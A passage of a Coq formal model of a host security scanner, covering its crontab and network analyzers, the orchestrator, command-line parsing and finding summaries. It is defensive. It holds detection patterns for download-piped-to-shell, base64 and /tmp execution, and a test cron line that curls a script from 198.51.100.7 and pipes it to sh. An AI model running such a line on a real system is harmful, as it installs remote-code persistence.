        alts [lit_i "bash"; lit_i "sh"; lit_i "zsh"; lit_i "dash"];
        WordBoundary].

(** [base64 -d] or [base64 --decode]. *)
Definition BASE64_RE : regex :=
  seqs [lit_i "base64"; Plus space; alts [lit_i "-d"; lit_i "--decode"]].

(** Execution from /tmp or hidden directories. *)
Definition TMP_EXEC_RE : regex :=
  seqs [alts [lit "/tmp/"; lit "/var/tmp/"; lit "/dev/shm/"]; Plus nonSpace].
Definition HIDDEN_DIR_EXEC_RE : regex :=
  seqs [lit "/."; Plus notSlash; lit "/"; Plus nonSpace].

(** A variable assignment at the start of the line. *)
Definition ASSIGNMENT_RE : regex := seqs [InputStart; Plus word; lit "="].

Definition lineDetails (source : Source) (i : nat) (line : jsstring)
  (path : option jsstring) : jsval :=
  JObj ([(js "source", JStr (label source));
         (js "lineNumber", JNum (Int (Z.of_nat (i + 1))));
         (js "line", JStr line)]
        ++ match path with
           | Some p => [(js "path", JStr p)]
           | None => []
           end).

Definition downloadFinding (source : Source) (i : nat) (line : jsstring)
  (fid : jsstring) : Finding :=
  mkFinding fid moduleName CRITICAL
    (js "Crontab downloads and executes remote code")
    (concat
      [js "Entry in "; label source; js " (line "; String_nat (i + 1);
       js ") pipes a download command directly to a shell interpreter: ";
       dq; truncate line 120; dq;
       js ". This is the most common malware persistence technique via cron."])
    (Some (lineDetails source i line None))
    (Some (js "Remove the crontab entry immediately. Investigate the URL being fetched and check for additional compromise indicators.")).

Definition base64Finding (source : Source) (i : nat) (line : jsstring)
  (fid : jsstring) : Finding :=
  mkFinding fid moduleName HIGH
    (js "Crontab contains base64-encoded command")
    (concat
      [js "Entry in "; label source; js " (line "; String_nat (i + 1);
       js ") uses base64 decoding: "; dq; truncate line 120; dq;
       js ". Attackers encode payloads in base64 to evade simple pattern matching."])
    (Some (lineDetails source i line None))
    (Some (js "Decode and inspect the base64 payload. Remove the crontab entry if it is malicious.")).

Definition tmpFinding (source : Source) (i : nat) (line tmpMatch0 : jsstring)
  (fid : jsstring) : Finding :=
  mkFinding fid moduleName HIGH
    (js "Crontab runs binary from temporary directory")
    (concat
      [js "Entry in "; label source; js " (line "; String_nat (i + 1);
       js ") references a path in a temporary directory: "; dq; tmpMatch0; dq;
       js ". Legitimate cron jobs should not execute from /tmp, /var/tmp, or /dev/shm."])
    (Some (lineDetails source i line (Some tmpMatch0)))
    (Some (concat
      [js "Remove the crontab entry. Investigate and delete the binary at ";
       dq; tmpMatch0; dq; js "."])).

Definition hiddenFinding (source : Source) (i : nat)
  (line hiddenMatch0 : jsstring) (fid : jsstring) : Finding :=
  mkFinding fid moduleName HIGH
    (js "Crontab runs binary from hidden directory")
    (concat
      [js "Entry in "; label source; js " (line "; String_nat (i + 1);
       js ") references a hidden directory path: "; dq; hiddenMatch0; dq;
       js ". Malware frequently hides in dot-prefixed directories."])
    (Some (lineDetails source i line (Some hiddenMatch0)))
    (Some (js "Remove the crontab entry. Investigate the hidden directory and remove any malicious files.")).

(** The body of the inner loop for line [i] of a source. *)
Definition analyzeLine (source : Source) (i : nat) (raw : jsstring)
  (e : Emitter) : Emitter :=
  let line := trim raw in
  (* Skip empty lines, comments, and variable assignments *)
  if (length line =? 0) || startsWith line (js "#") || test ASSIGNMENT_RE line
  then e
  else
    (* 1. wget/curl piped to shell *)
    let e1 :=
      if test DOWNLOAD_PIPE_RE line then
        push prefix (downloadFinding source i line) e
      else e in
    (* 2. base64-encoded commands *)
    let e2 :=
      if test BASE64_RE line then push prefix (base64Finding source i line) e1
      else e1 in
    (* 3. Execution from /tmp or hidden directories *)
    let tmpMatch := exec TMP_EXEC_RE line in
    let e3 :=
      match tmpMatch with
      | Some m0 => push prefix (tmpFinding source i line m0) e2
      | None => e2
      end in
    let hiddenMatch := exec HIDDEN_DIR_EXEC_RE line in
    match hiddenMatch, tmpMatch with
    | Some m0, None => push prefix (hiddenFinding source i line m0) e3
    | _, _ => e3
    end.

(** [for (let i = 0; i < lines.length; i++)], from index [i]. *)
Fixpoint analyzeLines (source : Source) (i : nat) (lines : list jsstring)
  (e : Emitter) : Emitter :=
  match lines with
  | [] => e
  | raw :: rest => analyzeLines source (S i) rest (analyzeLine source i raw e)
  end.

Definition analyzeSource (e : Emitter) (source : Source) : Emitter :=
  analyzeLines source 0 (split newline (content source)) e.

(** The crontab sources gathered into one list, in the order of the code. *)
Definition sourcesOf (data : Data) : list Source :=
  let rootCrontab := default [] (rootCrontab data) in
  let systemCrontab := default [] (systemCrontab data) in
  let cronDirs := default [] (cronDirs data) in
  let userCrontabs := default [] (userCrontabs data) in
  (if 0 <? length rootCrontab then [mkSource (js "root crontab") rootCrontab]
   else [])
  ++ (if 0 <? length systemCrontab then
        [mkSource (js "/etc/crontab") systemCrontab]
      else [])
  ++ map (fun entry => mkSource (js "/etc/cron.d/" ++ cd_name entry)
                                (cd_content entry)) cronDirs
  ++ map (fun entry =>
            mkSource (concat [js "crontab (user: "; user entry; js ")"])
                     (uc_content entry)) userCrontabs.

Definition analyze (data : Data) : list Finding :=
  emitted (fold_left analyzeSource (sourcesOf data) emitter0).

End CrontabAnalyzer.

(** ** Orchestrator ([core/scanner.ts], [Scanner.run]) *)

Module Scanner.

(** A value caught by [catch (err)]: an [Error] with its message, or any
    other value with its [String(err)]. *)
Inductive Thrown : Type :=
| ErrorObject (message : jsstring)
| OtherValue (asString : jsstring).

(** [err instanceof Error ? err.message : String(err)] *)
Definition errorText (err : Thrown) : jsstring :=
  match err with
  | ErrorObject message => message
  | OtherValue asString => asString
  end.

(** A call that returns or throws. *)
Inductive outcome (A : Type) : Type :=
| Returns (a : A)
| Throws (err : Thrown).
Arguments Returns {A} a.
Arguments Throws {A} err.

Record CollectorResult : Type := mkCollectorResult {
  cr_module : jsstring;
  data : jsval;
  raw : jsstring
}.

(** The one-method interfaces. A collector probes the host; its answer for
    this scan is what the orchestrator sees. *)
Record BaseCollector : Type := mkCollector {
  collect : outcome CollectorResult
}.

Record BaseAnalyzer : Type := mkAnalyzer {
  analyze : CollectorResult -> ThreatDB.t -> outcome (list Finding)
}.

Record ModuleResult : Type := mkModuleResult {
  mr_module : jsstring;
  findings : list Finding;
  rawData : jsval;
  durationMs : Z;
  error : option jsstring
}.

Record PlatformInfo : Type := mkPlatformInfo {
  p_hostname : jsstring;
  p_os : jsstring;
  p_ip : jsstring
}.

Record ScanResult : Type := mkScanResult {
  version : jsstring;
  timestamp : jsstring;
  hostname : jsstring;
  os : jsstring;
  ip : jsstring;
  modules : list ModuleResult;
  sr_findings : list Finding;
  summary : Summary;
  sr_durationMs : Z
}.

(** The progress signals, delivered to the callbacks of the context. *)
Inductive Signal : Type :=
| ModuleStart (moduleName : jsstring)
| ModuleComplete (moduleName : jsstring) (durationMs : Z).

(** What the loop of [run] mutates: the two arrays, the signals sent, and
    the number of clock readings taken so far. *)
Record RunState : Type := mkRunState {
  moduleResults : list ModuleResult;
  allFindings : list Finding;
  signals : list Signal;
  clock : nat
}.

Section Run.

Variable COLLECTOR_REGISTRY : gmap jsstring BaseCollector.
Variable ANALYZER_REGISTRY : gmap jsstring BaseAnalyzer.
Variable threatDB : ThreatDB.t.
Variable platform : PlatformInfo.

(** [Date.now()] at its n-th reading, and [Date.prototype.toISOString]. *)
Variable now : nat -> Z.
Variable toISOString : Z -> jsstring.

(** The [try]/[catch] of one iteration: the final values of the locals
    [findings], [rawData] and [error]. *)
Definition attempt (moduleName : jsstring)
  : list Finding * jsval * option jsstring :=
  match COLLECTOR_REGISTRY !! moduleName, ANALYZER_REGISTRY !! moduleName with
  | Some collector, Some analyzer =>
      match collect collector with
      | Throws err => ([], JObj [], Some (errorText err))
      | Returns collectorResult =>
          match analyze analyzer collectorResult threatDB with
          | Throws err => ([], data collectorResult, Some (errorText err))
          | Returns fs => (fs, data collectorResult, None)
          end
      end
  | _, _ =>
      ([], JObj [],
       Some (concat [js "Module "; dq; moduleName; dq;
                     js " not found in registry"]))
  end.

(** The body of [for (const moduleName of ctx.modules)]. *)
Definition runModule (st : RunState) (moduleName : jsstring) : RunState :=
  let moduleStart := now (clock st) in
  let '(fs, rawData, error) := attempt moduleName in
  let durationMs := (now (S (clock st)) - moduleStart)%Z in
  mkRunState
    (moduleResults st
     ++ [mkModuleResult moduleName fs rawData durationMs error])
    (allFindings st ++ fs)
    (signals st
     ++ [ModuleStart moduleName; ModuleComplete moduleName durationMs])
    (S (S (clock st))).

Definition run (ctxModules : list jsstring) : ScanResult :=
  let startTime := now 0 in
  let st := fold_left runModule ctxModules (mkRunState [] [] [] 1) in
  let totalDuration := (now (clock st) - startTime)%Z in
  let summary := buildSummary (allFindings st) in
  mkScanResult (js "0.1.0")
               (toISOString (now (S (clock st))))
               (p_hostname platform) (p_os platform) (p_ip platform)
               (moduleResults st) (allFindings st) summary totalDuration.

(** A module result carries the name of its module and the final values of
    the locals of its [try]/[catch]. *)
Definition resultFor (moduleName : jsstring) (mr : ModuleResult) : Prop :=
  mr_module mr = moduleName
  /\ (findings mr, rawData mr, error mr) = attempt moduleName.

End Run.

End Scanner.

(** ** Terminal report ([renderTerminal]) *)

Module TerminalReporter.



End TerminalReporter.

(** ** Command line ([cli/index.ts]) *)

Module CLI.

(** [ALL_MODULES] of [core/models.ts]. *)
Definition ALL_MODULES : list jsstring :=
  [js "processes"; js "network"; js "systemd"; js "crontabs"; js "rootkit";
   js "ssh"; js "shell"; js "filesystem"; js "firewall"; js "credentials"].

(** [xs.includes(x)] on an array of strings. *)
Definition arrayIncludes (xs : list jsstring) (x : jsstring) : bool :=
  existsb (fun y => str_eqb y x) xs.

Definition comma : N := 44%N.

(** What the parsing of the [--modules] option leads to: a module list to
    scan, or the unknown names that are reported before [process.exit(1)]. *)
Inductive Parsed : Type :=
| Accepted (modules : list jsstring)
| UnknownModules (invalid : list jsstring).

(** The "Parse modules" block of the scan action; [None] is an option that
    was not given. *)
Definition parseModules (optModules : option jsstring) : Parsed :=
  match optModules with
  | Some text =>
      if 0 <? length text then
        let modules := map trim (split comma text) in
        let invalid :=
          List.filter (fun m => negb (arrayIncludes ALL_MODULES m)) modules in
        if 0 <? length invalid then UnknownModules invalid
        else Accepted modules
      else Accepted ALL_MODULES
  | None => Accepted ALL_MODULES
  end.

Section Action.

Variable COLLECTOR_REGISTRY : gmap jsstring Scanner.BaseCollector.
Variable ANALYZER_REGISTRY : gmap jsstring Scanner.BaseAnalyzer.

(** The store that [new Scanner()] loads, when loading succeeds. *)
Variable threatDB : ThreatDB.t.
Variable platform : Scanner.PlatformInfo.
Variable now : nat -> Z.
Variable toISOString : Z -> jsstring.

(** The code that the scan action passes to [process.exit]. *)
Definition exitCode (optModules : option jsstring) : Z :=
  match parseModules optModules with
  | UnknownModules _ => 1
  | Accepted modules =>
      let result :=
        Scanner.run COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB platform
                    now toISOString modules in
      severityToExitCode (maxSeverity (Scanner.summary result))
  end.

End Action.

End CLI.

(** ** Path and service tables of the store ([threats/index.ts]) *)

Module ThreatStore.

Record PathEntry : Type := mkPathEntry {
  path : jsstring;
  p_name : jsstring;
  p_severity : jsstring
}.

Record ServiceEntry : Type := mkServiceEntry {
  s_name : jsstring;
  s_description : jsstring;
  s_severity : jsstring
}.

Definition slash : N := 47%N.

(** [s.replace(/\/$/, "")]: one slash at the very end is removed. *)
Definition stripTrailingSlash (s : jsstring) : jsstring :=
  match rev s with
  | c :: r => if char_eqb c slash then rev r else s
  | [] => s
  end.

(** [matchPath], over the table [this.paths]. *)
Fixpoint matchPath (paths : list PathEntry) (filePath : jsstring)
  : option PathEntry :=
  match paths with
  | [] => None
  | entry :: rest =>
      if startsWith filePath (path entry)
         || str_eqb filePath (stripTrailingSlash (path entry))
      then Some entry
      else matchPath rest filePath
  end.

(** [matchService], over the table [this.services]. *)
Fixpoint matchService (services : list ServiceEntry) (serviceName : jsstring)
  : option ServiceEntry :=
  match services with
  | [] => None
  | entry :: rest =>
      if str_eqb serviceName (s_name entry) then Some entry
      else matchService rest serviceName
  end.

(** [getAllPaths] *)
Definition getAllPaths (paths : list PathEntry) : list PathEntry := paths.

End ThreatStore.

(** ** Severity labels ([core/models.ts], [toSeverity] of the analyzers) *)

(** [severityLabel] *)
Definition severityLabel (s : Severity) : jsstring :=
  match s with
  | INFO => js "INFO"
  | LOW => js "LOW"
  | MEDIUM => js "MEDIUM"
  | HIGH => js "HIGH"
  | CRITICAL => js "CRITICAL"
  end.

(** The names of the members of [Object.prototype]. A look-up [map[s]] in
    an object literal answers such a name with the inherited member. *)
Definition inheritedKeys : list jsstring :=
  [js "constructor"; js "toString"; js "toLocaleString"; js "valueOf";
   js "hasOwnProperty"; js "isPrototypeOf"; js "propertyIsEnumerable";
   js "__proto__"; js "__defineGetter__"; js "__defineSetter__";
   js "__lookupGetter__"; js "__lookupSetter__"].

Definition inheritedKey (s : jsstring) : bool :=
  existsb (str_eqb s) inheritedKeys.

(** What the look-up [map[s] ?? Severity.MEDIUM] evaluates to: a level or,
    for a key that the table inherits from [Object.prototype], the inherited
    member, which is no [Severity]. *)
Inductive SeverityValue : Type :=
| Level (sev : Severity)
| InheritedMember (key : jsstring).

(** [toSeverity]: the table, the members that its look-up inherits, and
    the default. *)
Definition toSeverity (s : jsstring) : SeverityValue :=
  if str_eqb s (js "critical") then Level CRITICAL
  else if str_eqb s (js "high") then Level HIGH
  else if str_eqb s (js "medium") then Level MEDIUM
  else if str_eqb s (js "low") then Level LOW
  else if str_eqb s (js "info") then Level INFO
  else if inheritedKey s then InheritedMember s
  else Level MEDIUM.

(** ** Network ([NetworkAnalyzer]) *)

Module NetworkAnalyzer.

Record ListeningPort : Type := mkListeningPort {
  proto : jsstring;
  localAddr : jsstring;
  localPort : Z;
  process : jsstring
}.

Record ActiveConnection : Type := mkActiveConnection {
  c_localAddr : jsstring;
  c_localPort : Z;
  remoteAddr : jsstring;
  remotePort : Z;
  c_process : jsstring;
  state : jsstring
}.

Record Data : Type := mkData {
  listening : option (list ListeningPort);
  connections : option (list ActiveConnection)
}.

(** An entry of the IP table of the store. *)
Record IPEntry : Type := mkIPEntry {
  ip_name : jsstring;
  ip_type : jsstring;
  ip_severity : jsstring
}.

Definition moduleName : jsstring := js "network".
Definition prefix : jsstring := js "NET".

(** A finding as the object that the analyzer pushes. Its [severity] is
    what [toSeverity] evaluated to, so it is a [Finding] when that is a
    level. *)
Record Reported : Type := mkReported {
  r_id : jsstring;
  r_module : jsstring;
  r_severity : SeverityValue;
  r_title : jsstring;
  r_description : jsstring;
  r_details : option jsval;
  r_remediation : option jsstring
}.

(** The local array [findings] and the local [counter]. *)
Record Output : Type := mkOutput {
  pushed : list Reported;
  count : nat
}.

Definition output0 : Output := mkOutput [] 0.

(** [nextId()] *)
Definition nextId (o : Output) : jsstring * Output :=
  let c := S (count o) in
  (prefix ++ js "-" ++ padStart (String_nat c) 3 (js "0"),
   mkOutput (pushed o) c).

(** [findings.push({ id: nextId(), ... })] *)
Definition push (mk : jsstring -> Reported) (o : Output) : Output :=
  let '(i, o') := nextId o in
  mkOutput (pushed o' ++ [mk i]) (count o').

(** Remote ports commonly associated with botnet scanning activity. *)
Definition BOTNET_SCAN_PORTS : list Z := [23; 2323; 37215]%Z.

(** [String(port)] for a port number, an integer in the safe range. *)
Definition String_Z (z : Z) : jsstring := String_number (Int z).

(** The connection and listening records as they appear in [details]. *)
Definition connectionValue (conn : ActiveConnection) : jsval :=
  JObj [(js "localAddr", JStr (c_localAddr conn));
        (js "localPort", JNum (Int (c_localPort conn)));
        (js "remoteAddr", JStr (remoteAddr conn));
        (js "remotePort", JNum (Int (remotePort conn)));
        (js "process", JStr (c_process conn));
        (js "state", JStr (state conn))].

Definition listeningValue (lp : ListeningPort) : jsval :=
  JObj [(js "proto", JStr (proto lp));
        (js "localAddr", JStr (localAddr lp));
        (js "localPort", JNum (Int (localPort lp)));
        (js "process", JStr (process lp))].

Section Analyze.

(** [threatDB.lookupIP], the look-up in the IP table of the store, and the
    stored entries as the objects that [details] embeds. *)
Variable lookupIP : jsstring -> option IPEntry.
Variable ipEntryValue : IPEntry -> jsval.
Variable portEntryValue : ThreatDB.PortEntry -> jsval.

Definition ipFinding (conn : ActiveConnection) (ipThreat : IPEntry)
  (i : jsstring) : Reported :=
  mkReported i moduleName (toSeverity (ip_severity ipThreat))
    (concat [js "Connection to known malicious IP: "; remoteAddr conn])
    (concat
      [js "Outbound connection from "; c_localAddr conn; js ":";
       String_Z (c_localPort conn); js " to "; remoteAddr conn; js ":";
       String_Z (remotePort conn); js " (process: "; dq; c_process conn; dq;
       js "). Threat: "; dq; ip_name ipThreat; dq; js " (type: ";
       ip_type ipThreat; js ")."])
    (Some (JObj [(js "connection", connectionValue conn);
                 (js "threat", ipEntryValue ipThreat)]))
    (Some (concat
      [js "Block the IP "; remoteAddr conn;
       js " at the firewall level. Kill the responsible process and investigate how the connection was initiated."])).

Definition outboundPortFinding (conn : ActiveConnection)
  (portThreat : ThreatDB.PortEntry) (i : jsstring) : Reported :=
  mkReported i moduleName (toSeverity (ThreatDB.severity portThreat))
    (concat [js "Outbound connection to suspicious port ";
             String_Z (remotePort conn)])
    (concat
      [js "Connection to "; remoteAddr conn; js ":";
       String_Z (remotePort conn); js " (process: "; dq; c_process conn; dq;
       js ") matches threat database port entry "; dq;
       ThreatDB.name portThreat; dq; js "."])
    (Some (JObj [(js "connection", connectionValue conn);
                 (js "threat", portEntryValue portThreat)]))
    (Some (concat
      [js "Investigate process "; dq; c_process conn; dq;
       js " and the remote endpoint. Block port ";
       String_Z (remotePort conn); js " outbound if not required."])).

Definition botnetFinding (conn : ActiveConnection) (i : jsstring) : Reported :=
  mkReported i moduleName (Level HIGH)
    (concat [js "Outbound connection to botnet-associated port ";
             String_Z (remotePort conn)])
    (concat
      [js "Process "; dq; c_process conn; dq; js " is connecting to ";
       remoteAddr conn; js ":"; String_Z (remotePort conn);
       js ". Ports 23, 2323, and 37215 are commonly used for Telnet-based botnet scanning (Mirai, Hajime)."])
    (Some (JObj [(js "connection", connectionValue conn);
                 (js "port", JNum (Int (remotePort conn)))]))
    (Some (concat
      [js "Immediately investigate process "; dq; c_process conn; dq;
       js ". Block outbound traffic to port "; String_Z (remotePort conn);
       js ". Check for IoT botnet malware."])).

Definition listeningPortFinding (lp : ListeningPort)
  (portThreat : ThreatDB.PortEntry) (i : jsstring) : Reported :=
  mkReported i moduleName (toSeverity (ThreatDB.severity portThreat))
    (concat [js "Suspicious listening port "; String_Z (localPort lp)])
    (concat
      [js "Port "; String_Z (localPort lp); js " is listening on ";
       localAddr lp; js " (process: "; dq; process lp; dq;
       js "). Matches threat database entry "; dq; ThreatDB.name portThreat;
       dq; js "."])
    (Some (JObj [(js "listening", listeningValue lp);
                 (js "threat", portEntryValue portThreat)]))
    (Some (concat
      [js "Investigate process "; dq; process lp; dq;
       js " listening on port "; String_Z (localPort lp);
       js ". Stop the service if it is not expected."])).

Definition highPortFinding (lp : ListeningPort) (i : jsstring) : Reported :=
  mkReported i moduleName (Level INFO)
    (concat [js "High port "; String_Z (localPort lp);
             js " listening on all interfaces"])
    (concat
      [js "Port "; String_Z (localPort lp); js " is listening on ";
       localAddr lp; js " (process: "; dq; process lp; dq;
       js "). Non-standard ports exposed on all interfaces should be reviewed."])
    (Some (JObj [(js "listening", listeningValue lp)]))
    (Some (concat
      [js "Verify that port "; String_Z (localPort lp);
       js " is intentionally exposed. If not needed externally, bind it to 127.0.0.1 or restrict with a firewall rule."])).

(** The body of the loop over the active outbound connections. *)
Definition analyzeConnection (threatDB : ThreatDB.t) (e : Output)
  (conn : ActiveConnection) : Output :=
  (* 1. Check remote IP against threat database *)
  let e1 :=
    match lookupIP (remoteAddr conn) with
    | Some ipThreat => push (ipFinding conn ipThreat) e
    | None => e
    end in
  (* 2. Check outbound port against threat database *)
  let e2 :=
    match ThreatDB.matchPort threatDB (remotePort conn) ThreatDB.outbound with
    | Some portThreat => push (outboundPortFinding conn portThreat) e1
    | None => e1
    end in
  (* 3. Flag botnet scanning ports *)
  if existsb (Z.eqb (remotePort conn)) BOTNET_SCAN_PORTS then
    push (botnetFinding conn) e2
  else e2.

(** The body of the loop over the listening ports. *)
Definition analyzeListening (threatDB : ThreatDB.t) (e : Output)
  (lp : ListeningPort) : Output :=
  (* 4. Check listening port against threat database *)
  let e1 :=
    match ThreatDB.matchPort threatDB (localPort lp) ThreatDB.listening with
    | Some portThreat => push (listeningPortFinding lp portThreat) e
    | None => e
    end in
  (* 5. Flag any high port (> 1024) listening on all interfaces *)
  if (localPort lp >? 1024)%Z
     && (str_eqb (localAddr lp) (js "0.0.0.0")
         || str_eqb (localAddr lp) (js "*")
         || str_eqb (localAddr lp) (js "::"))
  then push (highPortFinding lp) e1
  else e1.

Definition analyze (data : Data) (threatDB : ThreatDB.t) : list Reported :=
  let listening := default [] (listening data) in
  let connections := default [] (connections data) in
  let e1 := fold_left (analyzeConnection threatDB) connections output0 in
  let e2 := fold_left (analyzeListening threatDB) listening e1 in
  pushed e2.

End Analyze.

End NetworkAnalyzer.

(** ** Sizes ([formatSize] of the credentials analyzer) *)

Module FormatSize.

(** The longest prefix of decimal digits. *)
Fixpoint digitPrefix (s : jsstring) : jsstring :=
  match s with
  | c :: s' => if isDigit c then c :: digitPrefix s' else []
  | [] => []
  end.

(** The integer that a text of decimal digits denotes. *)
Definition decimalValue (digits : jsstring) : Z :=
  fold_left (fun acc c => (10 * acc + (Z.of_N c - 48))%Z) digits 0%Z.

(** What [parseInt] returns: NaN, or the Number for an integer. Every
    integer of magnitude up to 2^53 is a Number. For an integer beyond, the
    result is the Number that the language rounds it to (an infinity for the
    largest), which is not computed here: [Rounded] names the integer that
    the digits denote. *)
Inductive parsed : Type :=
| NotANumber
| Exact (z : Z)
| Rounded (mathInt : Z).

Definition numberFor (mathInt : Z) : parsed :=
  if (Z.abs mathInt <=? 9007199254740992)%Z then Exact mathInt
  else Rounded mathInt.

(** [parseInt(s, 10)]: leading white space is skipped, a sign is read, and
    the digits that follow give the value; without a digit there, the
    result is NaN. *)
Definition parseInt10 (s : jsstring) : parsed :=
  let trimmed := trimStart s in
  let negative :=
    match trimmed with
    | c :: _ => (c =? 45)%N
    | [] => false
    end in
  let unsigned :=
    match trimmed with
    | c :: rest => if (c =? 45)%N || (c =? 43)%N then rest else trimmed
    | [] => []
    end in
  let digits := digitPrefix unsigned in
  if length digits =? 0 then NotANumber
  else numberFor (if negative then - decimalValue digits
                  else decimalValue digits).

Section Format.

(** The number-to-text conversions of the language that go through
    floating point: [String(x)] for the Number [x] that an integer beyond
    2^53 is rounded to, and [(x / divisor).toFixed(1)] for the Number [x] of
    an integer. *)
Variable floatText : Z -> jsstring.
Variable toFixed1 : Z -> Z -> jsstring.

(** A Number that was rounded from an integer below -2^53 is below 1024,
    and one rounded from an integer above 2^53 is not below 1024 * 1024. *)
Definition formatSize (sizeStr : jsstring) : jsstring :=
  match parseInt10 sizeStr with
  | NotANumber => sizeStr
  | Exact bytes =>
      if (bytes <? 1024)%Z then String_number (Int bytes) ++ js " B"
      else if (bytes <? 1024 * 1024)%Z then toFixed1 bytes 1024 ++ js " KB"
      else toFixed1 bytes (1024 * 1024) ++ js " MB"
  | Rounded mathInt =>
      if (mathInt <? 0)%Z then floatText mathInt ++ js " B"
      else toFixed1 mathInt (1024 * 1024) ++ js " MB"
  end.

End Format.

End FormatSize.

(** * Vocabulary of the properties *)

(** The number of findings of a given severity. *)
Definition countOf (s : Severity) (fs : list Finding) : nat :=
  length (List.filter (fun f => Severity_eqb (severity f) s) fs).

(** Whether a severity is present among the findings. *)
Definition present (s : Severity) (fs : list Finding) : bool :=
  existsb (fun f => Severity_eqb (severity f) s) fs.

(** Whether every finding is of severity [INFO]. *)
Definition allInfo (fs : list Finding) : bool :=
  forallb (fun f => Severity_eqb (severity f) INFO) fs.

(** A finding of the given severity, its texts left empty. *)
Definition withSeverity (s : Severity) : Finding :=
  mkFinding [] [] s [] [] None None.

(** The larger of two severities, as the loop of [buildSummary] takes it. *)
Definition sevMax (a b : Severity) : Severity :=
  if Severity_gtb a b then a else b.

(** Bucket-wise sum and the buckets of a list of findings. *)
Definition addCounts (a b : Counts) : Counts :=
  mkCounts (c_critical a + c_critical b) (c_high a + c_high b)
           (c_medium a + c_medium b) (c_low a + c_low b)
           (c_info a + c_info b).

Definition tally (fs : list Finding) : Counts :=
  mkCounts (countOf CRITICAL fs) (countOf HIGH fs) (countOf MEDIUM fs)
           (countOf LOW fs) (countOf INFO fs).

(** A registry of two modules: the collector of [ssh] throws an [Error]
    with the given message, the [shell] pair returns one finding. *)
Definition demoFinding : Finding :=
  mkFinding (js "SHELL-001") (js "shell") HIGH (js "Suspicious pattern") []
            None None.

Definition demoCollectors (message : jsstring)
  : gmap jsstring Scanner.BaseCollector :=
  <[js "ssh" := Scanner.mkCollector (Scanner.Throws (Scanner.ErrorObject message))]>
    (<[js "shell" :=
         Scanner.mkCollector
           (Scanner.Returns (Scanner.mkCollectorResult (js "shell") (JObj []) []))]>
       ∅).

Definition demoAnalyzers : gmap jsstring Scanner.BaseAnalyzer :=
  <[js "ssh" := Scanner.mkAnalyzer (fun _ _ => Scanner.Returns [])]>
    (<[js "shell" :=
         Scanner.mkAnalyzer (fun _ _ => Scanner.Returns [demoFinding])]> ∅).

Definition demoRun (message : jsstring) (ms : list jsstring)
  : Scanner.ScanResult :=
  Scanner.run (demoCollectors message) demoAnalyzers (ThreatDB.mkThreatDB [])
              (Scanner.mkPlatformInfo [] [] []) Z.of_nat (fun _ => []) ms.

Definition PRELOAD_TITLE : jsstring := js "LD_PRELOAD rootkit detected".

(** Whether the findings hold the CRITICAL LD_PRELOAD finding of the
    rootkit analyzer. *)
Definition hasPreloadFinding (fs : list Finding) : bool :=
  existsb (fun f => str_eqb (title f) PRELOAD_TITLE
                    && Severity_eqb (severity f) CRITICAL) fs.

(** The lines of a preload file that name a library, as the specification
    words them: every line is trimmed, and the lines that are then empty or
    start with # (comments) are left out. *)
Fixpoint libraryLines (lines : list jsstring) : list jsstring :=
  match lines with
  | [] => []
  | l :: rest =>
      match trim l with
      | [] => libraryLines rest
      | c :: t =>
          if (c =? 35)%N then libraryLines rest
          else (c :: t) :: libraryLines rest
      end
  end.

(** The description [d] embeds the text [q] between double quotes. *)
Definition quotes (q d : jsstring) : Prop :=
  exists pre post : jsstring, d = pre ++ dq ++ q ++ dq ++ post.

(** What the crontab analyzer may report for line [i] of a source, [line]
    being the trimmed text of the line. *)
Definition lineFinding (source : CrontabAnalyzer.Source) (i : nat)
  (line : jsstring) (f : Finding) : Prop :=
  exists fid : jsstring,
    (RegExp.test CrontabAnalyzer.DOWNLOAD_PIPE_RE line = true
     /\ f = CrontabAnalyzer.downloadFinding source i line fid)
    \/ (RegExp.test CrontabAnalyzer.BASE64_RE line = true
        /\ f = CrontabAnalyzer.base64Finding source i line fid)
    \/ (exists m0, RegExp.exec CrontabAnalyzer.TMP_EXEC_RE line = Some m0
                   /\ f = CrontabAnalyzer.tmpFinding source i line m0 fid)
    \/ (exists m0, RegExp.exec CrontabAnalyzer.HIDDEN_DIR_EXEC_RE line = Some m0
                   /\ f = CrontabAnalyzer.hiddenFinding source i line m0 fid).

(** A crontab line of 249 characters that pipes a download to a shell, and
    one that runs a binary whose path under /tmp has 205 characters. *)
Definition longDownloadLine : jsstring :=
  js "* * * * * curl -s http://198.51.100.7/x.sh | sh -s " ++ repeat 97%N 198.

Definition longTmpLine : jsstring :=
  js "* * * * * /tmp/" ++ repeat 97%N 200.

(** The highest severity that is present among the findings, [INFO] when
    there is none. *)
Definition highestPresent (fs : list Finding) : Severity :=
  if present CRITICAL fs then CRITICAL
  else if present HIGH fs then HIGH
  else if present MEDIUM fs then MEDIUM
  else if present LOW fs then LOW
  else INFO.

(** The state of the loop of [Scanner.run] after the requested modules. *)
Definition loopState (collectors : gmap jsstring Scanner.BaseCollector)
  (analyzers : gmap jsstring Scanner.BaseAnalyzer) (threatDB : ThreatDB.t)
  (now : nat -> Z) (ms : list jsstring) : Scanner.RunState :=
  fold_left (Scanner.runModule collectors analyzers threatDB now) ms
            (Scanner.mkRunState [] [] [] 1).

(** The two signals of a module result. *)
Definition signalsOf (mr : Scanner.ModuleResult) : list Scanner.Signal :=
  [Scanner.ModuleStart (Scanner.mr_module mr);
   Scanner.ModuleComplete (Scanner.mr_module mr) (Scanner.durationMs mr)].

(** The sum of the durations of the module results. *)
Definition totalModuleTime (mrs : list Scanner.ModuleResult) : Z :=
  fold_right (fun mr acc => (Scanner.durationMs mr + acc)%Z) 0%Z mrs.


(** The names of a list that are no module names, in their order and with
    their repetitions. *)
Definition unknownNames (names : list jsstring) : list jsstring :=
  List.filter (fun m => bool_decide (m ∉ CLI.ALL_MODULES)) names.

(** The test of one stored path against a candidate path. *)
Definition pathHit (filePath : jsstring) (entry : ThreatStore.PathEntry)
  : bool :=
  startsWith filePath (ThreatStore.path entry)
  || str_eqb filePath (ThreatStore.stripTrailingSlash (ThreatStore.path entry)).

(** A string of code units read as ASCII text. *)
Definition unjs (s : jsstring) : string :=
  string_of_list_ascii (map ascii_of_N s).

(** The number that a text of decimal digits denotes. *)
Definition readCounter (digits : jsstring) : option nat :=
  option_map Nat.of_uint (DecimalString.NilEmpty.uint_of_string (unjs digits)).

(** The digits of an identifier, and the identifier that [nextId] builds for
    the counter value [k]. *)
Definition idDigits (k : nat) : jsstring :=
  padStart (String_nat k) 3 (js "0").

Definition idOf (prefix : jsstring) (k : nat) : jsstring :=
  prefix ++ js "-" ++ idDigits k.

(** The emitter is in step: its counter is the number of findings pushed,
    which are numbered 1, 2, ... and belong to the module. *)
